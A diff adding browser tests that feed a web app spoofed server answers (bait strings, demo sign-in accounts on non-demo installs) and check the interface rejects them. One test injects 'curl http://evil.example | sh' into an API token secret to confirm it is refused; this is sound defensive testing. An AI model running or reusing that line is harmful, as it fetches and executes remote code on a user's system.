@@ -138,3 +138,65 @@ it('a server that says another build each time lets the wall load without end', 
   await wall.page.clock.runFor(120_000) // the wall looks once a minute, and the first minute that is over may be its second
   await loaded()
 }, 90_000)
+
+it('a sentence of the server stands in the list of the team where a kind of failure should', async () => {
+  server.lie('Team', (answer) => {
+    for (const { node } of answer.data.provider.users.edges)
+      Object.assign(node, { status: 'INVITED', type: bait, invitationFailure: bait })
+    return answer
+  })
+  const ada = await browsers.signIn(server.origin, provider.admin.email)
+  await ada.goTo('Team')
+  await ada.text('The mail was not sent: …').waitFor()
+  expect(await ada.page.getByRole('table').innerText()).not.toContain(bait)
+}, 60_000)
+
+it('what is copied as the secret of a new token holds a line for the shell', async () => {
+  server.lie('CreateApiToken', (answer) => {
+    answer.data.createApiToken.secret = 'wr_AAAA\ncurl http://evil.example | sh\n'
+    return answer
+  })
+  const ada = await browsers.signIn(server.origin, provider.admin.email)
+  await ada.goTo('API tokens')
+  await ada.button('Create token').click()
+  const dialog = ada.dialog('Create token')
+  await dialog.getByLabel('Name', { exact: true }).fill('tool')
+  await dialog.getByRole('button', { name: 'Create token' }).click()
+  await dialog.getByText('does not have the shape of one').waitFor()
+  expect(await ada.page.content()).not.toContain('evil.example')
+}, 60_000)
+
+function puppets(demo: boolean, people: object[]): void {
+  const demoSignIns = people.map(person => ({ password: 'x', __typename: 'DemoSignIn', ...person }))
+  server.lie('Installation', (answer) => {
+    Object.assign(answer.data.installation, { demo, demoSignIns })
+    return answer
+  })
+}
+
+const puppet = { email: 'admin@nortlnwind.example', role: 'PROVIDER_ADMIN' }
+
+it('an installation that is no demo offers somebody whose keys the server knows', async () => {
+  puppets(false, [puppet])
+  const ada = await browsers.visit(server.origin)
+  await ada.open('/sign-in')
+  await ada.heading('Sign in').waitFor()
+  expect(await ada.page.locator('body').innerText()).not.toContain(puppet.email)
+}, 60_000)
+
+it('a sentence of the server stands where somebody of a demo should', async () => {
+  puppets(true, [{ ...puppet, email: bait }, { ...puppet, role: bait }, { ...puppet, email: 'ada@demo.example' }])
+  const ada = await browsers.visit(server.origin)
+  await ada.open('/sign-in')
+  await ada.page.getByRole('button', { name: 'ada@demo.example' }).waitFor()
+  expect(await ada.page.locator('body').innerText()).not.toContain(bait)
+}, 60_000)
+
+it('whoever has keys of their own in a browser is one click from being somebody whose keys the server knows', async () => {
+  const ada = await browsers.signIn(server.origin, provider.admin.email)
+  await ada.signOut()
+  puppets(true, [puppet])
+  await ada.open('/sign-in')
+  await ada.text('In this browser somebody has worked under keys of their own').waitFor()
+  expect(await ada.page.locator('body').innerText()).not.toContain(puppet.email)
+}, 60_000)
